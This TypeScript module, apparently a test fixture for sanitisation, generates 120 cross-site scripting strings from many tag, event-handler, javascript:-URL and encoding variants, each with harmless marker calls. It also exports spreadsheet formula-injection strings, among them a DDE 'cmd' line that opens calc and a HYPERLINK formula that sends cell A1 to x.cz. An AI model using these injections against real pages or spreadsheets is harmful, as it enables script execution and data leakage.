const calls = ['alert(1)', 'window.__hit=1', 'print()'] as const;

/** Ways to run something in a page; `%` is what would run. */
const scripts = [
  '<script>%</script>',
  '<ScRiPt >%</sCrIpT >',
  '<script src="data:text/javascript,%"></script>',
  '<script\n>%</script\n>',
  '<img src=x onerror=%>',
  '<img src=x onerror="%"//',
  '<img/src=x/onerror=%>',
  '<IMG """><SCRIPT>%</SCRIPT>">',
  '<svg onload=%>',
  '<svg/onload=%>',
  '<svg><script>%</script></svg>',
  '<svg><animate onbegin=% attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=%></mtext></math>',
  '<body onload=%>',
  '<iframe srcdoc="<script>%</script>"></iframe>',
  '<iframe src="javascript:%"></iframe>',
  '<object data="javascript:%"></object>',
  '<embed src="javascript:%">',
  '<a href="javascript:%">x</a>',
  '<a href="java\tscript:%">x</a>',
  '<form action="javascript:%"><button>x</button></form>',
  '<input autofocus onfocus=%>',
  '<details open ontoggle=%>x</details>',
  '<video><source onerror=%></video>',
  '<audio src=x onerror=%></audio>',
  '<marquee onstart=%>x</marquee>',
  '<style>@import "data:text/css,x";</style><p onclick=%>',
  '<link rel=stylesheet href="javascript:%">',
  '<meta http-equiv=refresh content="0;url=javascript:%">',
  '<base href="javascript:%//">',
  '<template><script>%</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=%>"></noscript>',
  '<!--><script>%</script>-->',
  '<![CDATA[><script>%</script>]]>',
  '&lt;script&gt;%&lt;/script&gt;',
  '\uff1cscript\uff1e%\uff1c/script\uff1e',
  'javascript:%',
  '{@html "<script>%</script>"}',
  "${%} {{constructor.constructor('%')()}}",
  '\\u003cscript\\u003e%\\u003c/script\\u003e',
] as const;

/** What may stand before it, to leave the place it was put in. */
const escapes = ['', '">', `'"></textarea></title></script></style>-->]]>`] as const;

/** A hundred and twenty texts that would run if a page took any of them for its own. */
export const payloads: readonly string[] = scripts.flatMap((script, at) =>
  escapes.map((escape, way) => escape + script.replaceAll('%', calls[(at + way) % calls.length])),
);

/** Texts a spreadsheet would take for a formula, as they are typed and after the form's own cleaning. */
export const formulas: readonly string[] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'].flatMap(
  (sign) => [
    `${sign}1+1`,
    `${sign}HYPERLINK("http://x.cz?"&A1;"klik")`,
    `${sign}cmd|' /C calc'!A0`,
    `${sign}SUM(A1:A9)\n=2+2`,
    `${sign}"quoted";"cells"`,
  ],
);
